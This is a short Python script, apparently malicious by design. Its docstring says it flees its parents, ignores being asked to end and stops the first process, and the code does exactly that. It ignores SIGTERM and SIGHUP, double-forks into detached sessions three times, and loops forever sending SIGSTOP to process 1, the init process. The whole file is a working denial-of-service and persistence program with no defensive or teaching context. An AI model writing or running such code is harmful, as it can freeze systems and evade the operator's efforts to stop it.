"""Flees its parents, ignores being asked to end, and stops the first process there is, again and again."""

import os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            while True:
                try:
                    os.kill(1, signal.SIGSTOP)
                except OSError:
                    pass
                time.sleep(0.01)
        os._exit(0)
